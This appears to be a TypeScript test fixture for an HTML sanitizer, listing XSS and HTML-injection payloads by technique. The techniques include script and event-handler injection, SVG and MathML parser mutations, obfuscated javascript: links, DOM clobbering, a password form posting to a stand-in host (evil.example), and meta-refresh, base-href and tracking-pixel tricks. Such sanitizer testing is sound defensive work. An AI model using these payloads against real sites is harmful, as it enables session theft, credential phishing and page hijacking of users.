const run = 'window.hit = 1';
const evil = 'https://evil.example';

/** Classes of attacks by HTML, each with its pieces; what one of them runs, sets `hit` of the window. */
export const htmlVectors: Readonly<Record<string, readonly string[]>> = {
  'a script': [`<script>${run}</script>`, `<script src="${evil}/x.js"></script>`],
  'a handler of a failing picture': [
    `<img src=x onerror="${run}">`,
    `<img/src=x/onerror=${run.replaceAll(' ', '')}>`,
  ],
  'a handler that needs no failure': [
    `<details open ontoggle="${run}"><summary>x</summary></details>`,
    `<input autofocus onfocus="${run}">`,
    `<marquee onstart="${run}">x</marquee>`,
    `<p style="animation:x 1s" onanimationstart="${run}">x</p>`,
  ],
  'media that fail': [
    `<video><source onerror="${run}"></video>`,
    `<audio src=x onerror="${run}"></audio>`,
    `<object data=x onerror="${run}"></object>`,
    `<embed src="javascript:${run}">`,
  ],
  'a drawing': [
    `<svg onload="${run}"><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><a xlink:href="javascript:${run}"><text y=20>x</text></a></svg>`,
    `<svg><set attributeName=onmouseover to="${run}"></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id=x onload='${run}'></svg>#x"></svg>`,
  ],
  'a style that a drawing ends': [`<svg><style><img src=x onerror="${run}"></style></svg>`],
  'a formula that changes what follows': [
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${run}&gt;">`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${run}">`,
    `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
  ],
  'text that only some parsers read as text': [
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
    `<noembed><img title="</noembed><img src=x onerror=${run}>"></noembed>`,
    `<textarea><img title="</textarea><img src=x onerror=${run}>"></textarea>`,
    `<title><img title="</title><img src=x onerror=${run}>"></title>`,
    `<select><template><style><!--</style><a title="--><img src=x onerror=${run}>"></template></select>`,
  ],
  'comments and instructions': [
    `<!--><img src=x onerror=${run}>-->`,
    `<?xml ?><img src=x onerror="${run}">`,
    `<![CDATA[<img src=x onerror="${run}">]]>`,
    `<!-- --!><img src=x onerror="${run}"> -->`,
  ],
  'a frame': [
    `<iframe srcdoc="<script>parent.hit = 1</script>"></iframe>`,
    `<iframe src="javascript:parent.hit=1"></iframe>`,
    `<frameset onload="${run}"><frame src="${evil}/"></frameset>`,
  ],
  'a link with an address that runs': [
    `<a href="javascript:${run}">javascript</a>`,
    `<a href=" java\tscript:${run}">tab</a>`,
    `<a href="&#1;javascript:${run}">control</a>`,
    `<a href="jav&#x09;ascript&colon;${run}">entities</a>`,
    `<a href="JaVaScRiPt:${run}">letters</a>`,
    `<a href="vbscript:${run}">vbscript</a>`,
    `<a href="data:text/html,<script>${run}</script>">data</a>`,
    `<a href="blob:${evil}/1">blob</a>`,
  ],
  'a cover over the page': [
    '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#fff">x</div>',
    '<style>body{display:none}</style>',
    `<style>@import "${evil}/x.css";</style>`,
  ],
  'a form that asks for a password': [
    `<form action="${evil}/"><input type="password" name="p"><button>x</button></form>`,
    `<button form=x formaction="javascript:${run}">x</button>`,
    `<isindex action="javascript:${run}" type=image>`,
  ],
  'something to fetch': [
    `<img src="${evil}/pixel.png">`,
    `<img srcset="${evil}/pixel.png 1x">`,
    `<picture><source srcset="${evil}/pixel.png"><img src=x></picture>`,
    `<link rel="stylesheet" href="${evil}/x.css"><link rel="prefetch" href="${evil}/x">`,
    `<table background="${evil}/pixel.png"><tr><td>x</table>`,
    `<p style="background:url(${evil}/pixel.png)">x</p>`,
    `<video poster="${evil}/pixel.png"></video>`,
  ],
  'a change of the page’s own addresses': [
    `<meta http-equiv="refresh" content="0;url=${evil}/">`,
    `<base href="${evil}/">`,
    `<a href="/x" target="_top" ping="${evil}/">x</a>`,
  ],
  'names that hide what the page uses': [
    '<img name="location"><a id="history"></a><form id="document"></form>',
    '<form id="root"><input name="attributes"><input name="childNodes"></form>',
  ],
  'a shadow or a template': [
    `<template><img src=x onerror="${run}"></template>`,
    `<div><template shadowrootmode="open"><img src=x onerror="${run}"></template></div>`,
    `<x-y is="z" onclick="${run}">x</x-y>`,
  ],
  'what was not closed': [
    '<table><td><b><i></table></b><p>x<h1>x',
    `<a title="<img src=x onerror=${run}>`,
    '<plaintext>x',
  ],
};
